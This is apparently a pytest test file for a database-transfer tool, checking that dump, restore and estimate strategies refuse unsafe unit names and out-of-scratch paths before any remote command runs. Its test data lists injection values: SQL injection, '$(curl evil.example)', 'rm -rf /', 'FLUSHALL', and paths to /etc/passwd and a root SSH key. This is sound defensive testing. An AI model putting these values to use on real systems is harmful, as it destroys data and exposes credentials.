"""Unsafe partial-transfer units never reach a remote shell."""

import pytest

from db_transfer_mcp.core.strategies.registry import build_default_registry
from db_transfer_mcp.models import DatabaseKind, TransferOptions

from .conftest import SCRATCH_DIR, make_database

UNSAFE_UNITS = [
    "orders; DROP TABLE users",
    "$(curl evil.example)",
    "`reboot`",
    "orders' OR '1'='1",
    "a b",
    "x\nrm -rf /",
]

CASES = [
    (kind, unit)
    for kind in DatabaseKind
    for unit in UNSAFE_UNITS
]


def _options(strategy, unit: str) -> TransferOptions:
    return TransferOptions(**{strategy.option_key: ["valid_unit", unit]})


@pytest.fixture
def registry(executor, settings):
    return build_default_registry(executor, settings)


@pytest.mark.asyncio
@pytest.mark.parametrize(("kind", "unit"), CASES)
async def test_dump_rejects_unsafe_units(registry, executor, host_a, kind, unit):
    strategy = registry.get(kind)
    result = await strategy.create_dump(
        make_database(kind), host_a, f"{SCRATCH_DIR}/x.dump", _options(strategy, unit)
    )

    assert not result.success
    assert executor.calls == []


@pytest.mark.asyncio
@pytest.mark.parametrize(("kind", "unit"), CASES)
async def test_restore_rejects_unsafe_units(registry, executor, host_b, kind, unit):
    strategy = registry.get(kind)
    result = await strategy.restore_dump(
        make_database(kind), host_b, f"{SCRATCH_DIR}/x.dump", _options(strategy, unit)
    )

    assert not result.success
    assert executor.calls == []


@pytest.mark.asyncio
@pytest.mark.parametrize("kind", list(DatabaseKind))
async def test_estimate_with_unsafe_units_returns_zero(registry, executor, host_a, kind):
    strategy = registry.get(kind)
    size = await strategy.estimate_size(
        make_database(kind), host_a, _options(strategy, "x; FLUSHALL")
    )

    assert size == 0
    assert executor.calls == []


@pytest.mark.asyncio
@pytest.mark.parametrize("path", ["/etc/passwd", f"{SCRATCH_DIR}/../../root/.ssh/id_rsa"])
async def test_artifact_outside_scratch_is_refused(registry, executor, host_a, path):
    strategy = registry.get(DatabaseKind.POSTGRESQL)
    result = await strategy.create_dump(make_database(DatabaseKind.POSTGRESQL), host_a, path)
    await strategy.cleanup(host_a, path)

    assert not result.success
    assert executor.calls == []


@pytest.mark.asyncio
@pytest.mark.parametrize("kind", list(DatabaseKind))
async def test_mismatched_option_key_is_refused(registry, executor, host_a, kind):
    strategy = registry.get(kind)
    other_key = "collections" if strategy.option_key != "collections" else "tables"
    result = await strategy.create_dump(
        make_database(kind),
        host_a,
        f"{SCRATCH_DIR}/x.dump",
        TransferOptions(**{other_key: ["orders"]}),
    )

    assert not result.success
    assert executor.calls == []
